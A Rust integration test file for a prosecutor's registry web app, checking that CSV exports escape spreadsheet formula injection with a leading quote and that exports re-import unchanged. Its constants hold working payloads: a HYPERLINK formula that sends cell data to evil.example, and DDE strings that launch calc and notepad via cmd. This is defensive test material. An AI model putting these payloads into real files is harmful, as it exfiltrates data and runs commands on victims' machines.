//! CSV formula injection: a prosecutor's import (or form) stores text that a spreadsheet would run
//! as a formula (`=HYPERLINK(...)`, `@SUM(...)`, `-2+3`, `+cmd`); every export writes those cells
//! with a leading `'` (OWASP), numbers stay numbers, and importing the export changes nothing.

use actix_web::http::StatusCode;
use baqylau::db;
use baqylau::db::schema::{audit_entries, offences};
use baqylau::domain::person_record::{COLUMNS, PersonRecord};
use diesel::prelude::*;

use crate::support::builders::{Office, person};
use crate::support::{PASSWORD, TestApp, TestClient, csv_rows};

const LINK: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Подробнее\")";
const DDE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS: &str = "+7 ТОО cmd|' /C notepad'!A0";
const MINUS: &str = "-2+3+cmd|' /C calc'!A0";

/// The bytes a spreadsheet reads: wherever `text` appears, its cell begins with the quote.
fn assert_every_cell_quoted(body: &str, text: &str) {
    let written = text.replace('"', "\"\"");
    let places: Vec<usize> = body.match_indices(&written).map(|(i, _)| i).collect();
    assert!(!places.is_empty(), "{text:?} is in the file");
    for i in places {
        assert!(
            body[..i].ends_with('\''),
            "{text:?} begins a cell without a quote"
        );
    }
}

async fn prosecutor(app: &TestApp) -> TestClient {
    let mut client = app.client().await;
    client.sign_in("prosecutor", PASSWORD).await;
    client
}

/// A file as an attacker writes it: plain CSV, nothing escaped.
fn attacker_csv(header: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(header).unwrap();
    for row in rows {
        writer.write_record(row).unwrap();
    }
    writer.into_inner().unwrap()
}

async fn import(client: &mut TestClient, path: &str, bytes: &[u8]) -> String {
    let checked = client
        .post_file(&format!("{path}/check"), "f.csv", bytes)
        .await;
    assert_eq!(checked.status, StatusCode::OK, "{}", checked.body);
    let counts = checked.select("#import-counts").join(" ");
    let done = client.post_form(&format!("{path}/run"), &[]).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.body);
    counts
}

fn changes(app: &TestApp) -> i64 {
    audit_entries::table
        .filter(audit_entries::action.eq_any(["create", "update"]))
        .count()
        .get_result(&mut app.conn())
        .unwrap()
}

/// A demo person with formula text in every free-text column and in the names.
fn hostile_person(app: &TestApp, office: &Office) -> PersonRecord {
    let home = office.point_in(1, 4);
    let person = app.add_person(person("Ахметов", "Серик", 4, home, &office.districts[1]));
    let mut r = PersonRecord::from_person(&person, "");
    r.middle_name = "-Ахметович".into();
    r.phone = "+77011234567".into();
    r.restrictions = LINK.into();
    r.home_address = DDE.into();
    r.employer = PLUS.into();
    r.work_address = MINUS.into();
    r.work_lat = r.home_lat.clone();
    r.work_lon = r.home_lon.clone();
    r
}

#[actix_web::test]
async fn exported_persons_cells_start_with_a_quote_and_the_export_imports_back_unchanged() {
    let (app, office) = TestApp::office();
    let mut client = prosecutor(&app).await;
    let record = hostile_person(&app, &office);
    let row: Vec<String> = COLUMNS.iter().map(|c| record.get(c).to_owned()).collect();
    import(
        &mut client,
        "/registry/import",
        &attacker_csv(COLUMNS, &[row]),
    )
    .await;
    let stored = db::persons::find_by_iin(&mut app.conn(), &record.iin)
        .unwrap()
        .unwrap();
    assert_eq!(
        stored.restrictions.as_deref(),
        Some(LINK),
        "stored as typed"
    );
    assert_eq!(stored.home_address, DDE);

    let export = client.get("/registry/export").await;
    assert_eq!(export.status, StatusCode::OK);
    for cell in [LINK, DDE, PLUS, MINUS, "-Ахметович"] {
        assert_every_cell_quoted(&export.body, cell);
    }
    let rows = csv_rows(&export.body);
    let column = |name: &str| COLUMNS.iter().position(|c| *c == name).unwrap();
    let line = rows
        .iter()
        .find(|r| r[column("iin")] == record.iin)
        .unwrap();
    for (name, text) in [
        ("middle_name", "-Ахметович"),
        ("phone", "+77011234567"),
        ("restrictions", LINK),
        ("home_address", DDE),
        ("employer", PLUS),
        ("work_address", MINUS),
    ] {
        assert_eq!(line[column(name)], format!("'{text}"), "{name}");
    }
    // The client reads Russian: the semicolon dialect, with decimal commas.
    for name in ["home_lat", "home_lon", "prior_convictions"] {
        assert!(
            line[column(name)].replace(',', ".").parse::<f64>().is_ok(),
            "{name} stays a number: {:?}",
            line[column(name)]
        );
    }

    // The export imported back: every person unchanged, nothing written.
    let before = changes(&app);
    let counts = import(&mut client, "/registry/import", export.body.as_bytes()).await;
    assert_eq!(
        changes(&app),
        before,
        "export then import changes nothing: {counts}"
    );
    let again = db::persons::find_by_iin(&mut app.conn(), &record.iin)
        .unwrap()
        .unwrap();
    assert_eq!(again.restrictions.as_deref(), Some(LINK));
    assert_eq!(again.home_address, DDE);
    assert_eq!(again.phone.as_deref(), stored.phone.as_deref());
}

#[actix_web::test]
async fn exported_offences_cells_start_with_a_quote_and_import_back_unchanged() {
    let (app, _) = TestApp::office();
    let mut client = prosecutor(&app).await;
    let code = db::districts::list_districts(&mut app.conn()).unwrap()[0]
        .code
        .clone();
    let header = [
        "id",
        "offence_date",
        "district",
        "article",
        "severity",
        "offence_type",
        "place",
    ];
    let row = |id: &str, article: &str| {
        [
            id,
            "2025-03-01",
            &code,
            article,
            "medium",
            "theft",
            "street",
        ]
        .map(str::to_owned)
    };
    let file = attacker_csv(
        &header,
        &[
            row("-2-3", "=1+2").to_vec(),
            row("W-9", "@SUM(A1)").to_vec(),
        ],
    );
    import(&mut client, "/registry/offences/import", &file).await;
    let article: String = offences::table
        .filter(offences::id.eq("-2-3"))
        .select(offences::article)
        .first(&mut app.conn())
        .unwrap();
    assert_eq!(article, "=1+2");

    let export = baqylau::services::imports::export::offences_csv(&mut app.conn()).unwrap();
    let text = String::from_utf8(export.clone()).unwrap();
    for cell in ["-2-3", "=1+2", "@SUM(A1)"] {
        assert_every_cell_quoted(&text, cell);
    }
    let before = changes(&app);
    let counts = import(&mut client, "/registry/offences/import", &export).await;
    let after: Vec<(String, String)> = offences::table
        .filter(offences::id.eq_any(["-2-3", "W-9"]))
        .order(offences::id)
        .select((offences::id, offences::article))
        .load(&mut app.conn())
        .unwrap();
    assert_eq!(
        after,
        [
            ("-2-3".into(), "=1+2".into()),
            ("W-9".into(), "@SUM(A1)".into())
        ]
    );
    assert_eq!(changes(&app), before, "{counts}");
    assert_eq!(
        offences::table
            .filter(offences::id.like("'%"))
            .count()
            .get_result::<i64>(&mut app.conn())
            .unwrap(),
        0,
        "no quote ever stored"
    );
}

#[actix_web::test]
async fn a_group_named_like_a_formula_is_quoted_in_the_report_downloads_and_numbers_are_not() {
    let (app, office) = TestApp::office();
    let name = "=cmd|' /C calc'!A0";
    app.rename_group(&office.groups[0], name);
    let mut client = app.client().await;
    client.sign_in("supervisor", PASSWORD).await;
    let groups = client.get("/reports/groups?format=csv").await;
    assert_eq!(groups.status, StatusCode::OK);
    assert_every_cell_quoted(&groups.body, name);
    assert!(
        csv_rows(&groups.body)
            .iter()
            .any(|r| r[0] == format!("'{name}"))
    );
    let coverage = client.get("/reports/coverage?format=csv&table=group").await;
    assert_every_cell_quoted(&coverage.body, name);
    for row in csv_rows(&coverage.body) {
        assert!(row[2].parse::<i64>().is_ok(), "counts are numbers: {row:?}");
    }
}
